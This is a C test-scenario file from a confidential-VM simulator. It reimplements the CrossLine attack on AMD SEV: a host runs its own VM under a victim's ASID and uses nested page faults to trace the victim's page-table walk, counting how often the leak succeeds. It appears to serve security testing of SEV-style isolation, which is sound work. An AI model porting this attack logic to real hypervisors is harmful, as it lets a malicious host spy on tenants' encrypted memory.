/*
 * Another guest's VM runs under the victim's ASID for a moment: its page walk reads the victim's
 * tables with the victim's key, and the nested faults tell the host where they lead. (Mechanism: Li
 * et al., "CrossLine", CCS 2021.) The host needs no more than nested tables, CR3 and the ASID in a
 * VMCB that it owns.
 */
#include <string.h>

#include "cbit/vcpu/vmcb.h"
#include "cbit_test.h"
#include "tests/scenario/attacks.h"

enum { VICTIM, OWN, LEVELS = 4 };

static const cbit_gpa_t memory_end = UINT64_C(64) << 20;
static const uint64_t pointer_mask = UINT64_C(0x00007ffffffff000); /* below the C-bit, 47 */

static uint64_t read_cr3(cbit_attacker_t *hands, uint32_t guest)
{
    uint64_t cr3;
    ck_assert_int_eq(cbit_attacker_read_vmcb(hands, guest, 0, CBIT_VMCB_CR3, &cr3, sizeof cr3),
                     CBIT_ERR_OK);
    return cr3;
}

static void write_cr3(cbit_attacker_t *hands, uint64_t cr3)
{
    ck_assert_int_eq(cbit_attacker_write_vmcb(hands, OWN, 0, CBIT_VMCB_CR3, &cr3, sizeof cr3),
                     CBIT_ERR_OK);
}

/* Every page of its own VM, so that the first thing that a walk leads to faults. */
static void set_all_present(cbit_attacker_t *hands, bool present)
{
    cbit_spa_t spa;
    for (cbit_gpa_t gpa = 0; gpa < memory_end; gpa += CBIT_PAGE_BYTES) {
        if (cbit_attacker_translate(hands, OWN, gpa, &spa) == CBIT_ERR_OK) {
            ck_assert_int_eq(cbit_attacker_set_present(hands, OWN, gpa, present), CBIT_ERR_OK);
        }
    }
}

/* The victim's table at gpa takes the same place in the own VM. */
static void borrow_table(cbit_attacker_t *hands, cbit_gpa_t gpa)
{
    cbit_spa_t spa;
    ck_assert_int_eq(cbit_attacker_translate(hands, VICTIM, gpa, &spa), CBIT_ERR_OK);
    ck_assert_int_eq(cbit_attacker_map_frame(hands, OWN, gpa, spa), CBIT_ERR_OK);
}

/* Where a walk leads under that ASID: the page that it faults on, 0 if it ends otherwise. */
static cbit_gpa_t fault_under(attack_crossline_t *program, cbit_attacker_t *hands, uint32_t asid)
{
    cbit_run_event_t seen;
    ck_assert_int_eq(cbit_attacker_run_with_asid(hands, asid, true, &seen), CBIT_ERR_OK);
    program->invalid += strcmp(seen.outcome, "invalid") == 0;
    return strcmp(seen.outcome, "npf") == 0 ? seen.info2 & pointer_mask : 0;
}

/* For the program's own check: whether an entry of the victim's table leads there. */
static bool leads_to(const cbit_guest_t *victim, cbit_gpa_t table, cbit_gpa_t page)
{
    uint64_t entries[512];
    if (page == 0 || !cbit_guest_plaintext(victim, table, entries, sizeof entries)) {
        return false;
    }
    for (uint32_t i = 0; i < 512; i++) {
        if ((entries[i] & 1) != 0 && (entries[i] & pointer_mask) == page) {
            return true;
        }
    }
    return false;
}

static void walk_down(attack_crossline_t *program, cbit_attacker_t *hands)
{
    const cbit_guest_t *victim = cbit_attacker_guest(hands, VICTIM);
    cbit_gpa_t tables[LEVELS];
    cbit_gpa_t table = read_cr3(hands, VICTIM) & pointer_mask;
    uint32_t levels = 0;
    write_cr3(hands, table);
    while (levels < LEVELS && table != 0) {
        tables[levels++] = table;
        borrow_table(hands, table);
        program->own_key += leads_to(victim, table, fault_under(program, hands, 2));
        cbit_gpa_t told = fault_under(program, hands, 1);
        program->told += leads_to(victim, table, told);
        table = told;
    }
    while (levels-- > 0) {
        ck_assert_int_eq(cbit_attacker_remap_page(hands, OWN, tables[levels], tables[levels]),
                         CBIT_ERR_OK);
    }
}

static cbit_attack_reply_t on_exit_of(void *self, cbit_attacker_t *hands,
                                      const cbit_attack_exit_t *exit)
{
    attack_crossline_t *program = self;
    if (program->over || exit->guest != OWN || exit->exit.reason != CBIT_EXIT_INTR ||
        !cbit_guest_paged(cbit_attacker_guest(hands, VICTIM), 0) ||
        !cbit_guest_paged(cbit_attacker_guest(hands, OWN), 0)) {
        return CBIT_ATTACK_PASS;
    }
    program->over = true;
    const uint64_t own_cr3 = read_cr3(hands, OWN);
    set_all_present(hands, false);
    if (own_cr3 == 0) { /* SEV-ES: the VMCB has no registers */
        (void)fault_under(program, hands, 1);
    } else {
        walk_down(program, hands);
    }
    set_all_present(hands, true);
    write_cr3(hands, own_cr3);
    return CBIT_ATTACK_PASS;
}

void attack_crossline_init(attack_crossline_t *program, cbit_attack_t *attack)
{
    *program = (attack_crossline_t){0};
    *attack = (cbit_attack_t){.self = program, .every_ps = 2000000, .on_exit = on_exit_of};
}
